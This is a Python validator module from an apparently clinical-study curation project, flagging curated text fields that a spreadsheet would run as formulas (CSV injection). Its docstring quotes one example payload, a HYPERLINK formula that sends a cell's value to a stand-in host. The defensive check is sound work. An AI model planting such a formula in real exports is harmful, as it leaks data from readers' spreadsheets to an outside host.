"""Curated text that a spreadsheet would run as a formula is an error, located like every
other problem: a study acronym ``=HYPERLINK("http://x.example/?"&A1,"CLEOPATRA")`` would
reach every CSV download and run when a reader opens it (CSV/formula injection).

One rule (``model.formulas``) over every text field of every curated file a view is made
from: the studies, the sources, the vocabularies and the releases. The exports neutralise such
a text anyway (a database built by other means), but a curator should never have to rely on it.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

from pydantic import BaseModel

from ..model.formulas import reads_as_formula
from ..model.registry import field_aliases
from ..util.terminal import printable
from .corpus import (
    AE_TERMS_FILE,
    DRUGS_FILE,
    ENDPOINTS_FILE,
    RELEASES_FILE,
    SOURCES_FILE,
    Corpus,
    Problem,
    Reporter,
    StudyDoc,
)
from .yamlfile import PathKey

_SHOWN = 40  # characters of the offending text quoted in the message
EXPECTED = ("text that does not start with =, +, -, @, a tab or a line break (reword it: \"minus 2\", "
            "\"at week 6\"); a number as printed such as -0.5 is fine")


def texts(value: Any, loc: tuple[PathKey, ...] = ()) -> Iterator[tuple[tuple[PathKey, ...], str]]:
    """Every text in a parsed record or file, with its path as the YAML file spells it (a
    field's alias, such as a drug's ``class``). Numbers, even as printed, are not texts here."""
    if isinstance(value, str):
        yield loc, value
    elif isinstance(value, BaseModel):
        for name, alias in field_aliases(type(value)):
            yield from texts(getattr(value, name, None), loc + (alias,))
    elif isinstance(value, list):
        for i, item in enumerate(value):
            yield from texts(item, loc + (i,))
    elif isinstance(value, dict):
        for key, item in value.items():
            yield from texts(item, loc + (key,))


def _check(report: Reporter, value: Any, loc: tuple[PathKey, ...]) -> None:
    for where, text in texts(value, loc):
        if reads_as_formula(text):
            shown = text if len(text) <= _SHOWN else text[:_SHOWN] + "…"
            report("error", where, f"'{printable(shown)}' starts with {printable(text[0])!r}: a spreadsheet "
                   "would run it as a formula", EXPECTED)


def check(corpus: Corpus) -> list[Problem]:
    """The curated texts a spreadsheet would read as formulas, each with its file and line."""
    problems: list[Problem] = []
    for rel, section, items in ((SOURCES_FILE, "sources", corpus.sources),
                                (ENDPOINTS_FILE, "endpoints", corpus.endpoints),
                                (DRUGS_FILE, "drugs", corpus.drugs),
                                (AE_TERMS_FILE, "terms", corpus.ae_terms),
                                (RELEASES_FILE, "releases", corpus.releases)):
        report = Reporter(rel, corpus.documents.get(rel), Path(rel).stem)
        _check(report, items, (section,))
        problems.extend(report.problems)
    for entry in corpus.studies:
        problems.extend(study_problems(entry, corpus.root))
    return problems


def study_problems(entry: StudyDoc, root: Path) -> list[Problem]:
    report = Reporter(str(entry.document.path.relative_to(root)), entry.document,
                      entry.study.id or entry.document.path.stem)
    _check(report, entry.study, ())
    return report.problems
